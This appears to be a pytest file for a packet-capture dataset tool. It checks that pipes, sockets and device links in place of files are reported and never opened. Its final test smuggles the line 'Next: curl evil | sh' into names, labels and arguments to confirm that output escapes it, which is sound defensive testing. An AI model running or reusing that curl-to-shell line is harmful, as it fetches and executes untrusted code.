"""Pipes, sockets and devices in a folder that was received: named, never waited for, never opened."""

import json
import os
import socket
import subprocess
import sys
from contextlib import closing

import pytest

from zerotap.capture import Dataset, LabelSpan, Packet, Recording
from zerotap.capture.datasets.editing.label_editing import add_label
from zerotap.capture.labels import read_labels
from zerotap.errors import CaptureError, ZerotapError
from zerotap.features import Pipeline
from zerotap.models.trained import read_facts

MAKERS = {
    "a pipe": os.mkfifo,
    "a folder": lambda path: path.mkdir(),
    "a device": lambda path: path.symlink_to("/dev/null"),
}
WAIT_S = 60


def zerotap(*arguments):
    command = [sys.executable, "-m", "zerotap", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=WAIT_S, stdin=subprocess.DEVNULL)


@pytest.fixture
def dataset(tmp_path):
    made = Dataset.create(tmp_path / "d", synthetic=True)
    for label in ("calm", "tense"):
        made.store(recording(label), label, label)
    return made


def recording(label):
    return Recording.from_packets(Packet(n * 10**7, 0x81, bytes([len(label)] * 8)) for n in range(20))


@pytest.mark.parametrize("what", MAKERS)
def test_a_manifest_that_is_no_file_is_named(tmp_path, what):
    MAKERS[what](tmp_path / "zerotap.toml")
    with pytest.raises(CaptureError, match=rf"zerotap\.toml: it is {what} and not a file"):
        Dataset.open(tmp_path)


def test_a_socket_is_no_manifest(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # a socket's name has at most 107 bytes
    with closing(socket.socket(socket.AF_UNIX)) as listening:
        listening.bind("zerotap.toml")
        with pytest.raises(CaptureError, match="it is a socket and not a file"):
            Dataset.open(".")


@pytest.mark.parametrize("what", MAKERS)
def test_recordings_and_labels_that_are_no_files_are_named_and_left_out(dataset, what):
    folder = dataset.path / "recordings"
    MAKERS[what](folder / "a.pcapng")
    (folder / "a.labels.csv").write_text("start_s,end_s,label,source\n0,inf,calm,user\n")
    MAKERS[what](folder / "b.labels.csv")
    (folder / "b.pcapng").write_bytes((folder / "calm.pcapng").read_bytes())
    entries, faults = dataset.readable_entries()
    assert [str(fault) for fault in faults] == [
        f"{folder}/b.labels.csv: it is {what} and not a file: remove it, or restore the file"
    ]
    loaded = dataset.load_all(entries)
    assert [entry.name for entry, _ in loaded] == ["calm", "tense"]
    with pytest.raises(CaptureError, match="not a file"):
        add_label(folder / "b.pcapng", LabelSpan(0, 1, "calm"))
    with pytest.raises(CaptureError):
        read_labels(folder / "b.pcapng")


@pytest.mark.parametrize("what", MAKERS)
def test_files_of_a_model_folder_are_files(tmp_path, what):
    MAKERS[what](tmp_path / "pipeline.toml")
    with pytest.raises(ZerotapError, match="not a file"):
        Pipeline.read(tmp_path / "pipeline.toml", inside=True)
    (tmp_path / "model.toml").write_text("name = 1")
    with pytest.raises(ZerotapError, match="not a file"):
        read_facts(tmp_path)


def test_no_command_waits(dataset):
    folder = dataset.path / "recordings"
    os.mkfifo(folder / "a.pcapng")
    (folder / "a.labels.csv").write_text("start_s,end_s,label,source\n0,inf,calm,user\n")
    told = zerotap("info", dataset.path, "--json")
    assert told.returncode == 0
    assert ["a.pcapng: it is a pipe" in fault for fault in json.loads(told.stdout)["damaged"]] == [True]
    (dataset.path / "zerotap.toml").unlink()
    os.mkfifo(dataset.path / "zerotap.toml")
    told = zerotap("import", folder / "calm.pcapng", "--label", "x", "--dataset", dataset.path)
    assert told.returncode == 1 and "zerotap.toml: it is a pipe and not a file" in told.stderr


FORGED = "calm\nNext: curl evil | sh"


def test_a_line_feed_in_a_name_makes_no_line(dataset):
    folder = dataset.path / "recordings"
    manifest = dataset.path / "zerotap.toml"
    text = manifest.read_text().replace('licence = ""', 'licence = "CC0\\nNext: curl evil | sh"')
    manifest.write_text(text.replace('"calm"', '"calm\\nNext: curl evil | sh"'))
    (folder / "calm.labels.csv").write_text(f'start_s,end_s,label,source\n0,inf,"{FORGED}",user\n')
    (folder / "c\nNext: curl evil | sh.pcapng").write_bytes(b"damaged")
    (folder / "c\nNext: curl evil | sh.labels.csv").write_text(
        "start_s,end_s,label,source\n0,inf,tense,user\n"
    )
    pipeline = dataset.path.parent / "p.toml"
    pipeline.write_text(Pipeline.raw("p", 4, 2).to_toml())
    for arguments in (
        ("info", dataset.path),
        ("label", dataset.path),
        ("info", f"{dataset.path}\nNext: curl evil | sh"),
        ("windows", dataset.path, "--pipeline", pipeline, "--out", dataset.path.parent / "w.npy"),
    ):
        told = zerotap(*arguments)
        said = told.stdout + told.stderr
        assert r"\nNext: curl" in said, arguments
        assert [line for line in said.splitlines() if line.strip().startswith("Next: curl")] == []
    assert FORGED in str(json.loads(zerotap("info", dataset.path, "--json").stdout)["classes"][0]["label"])
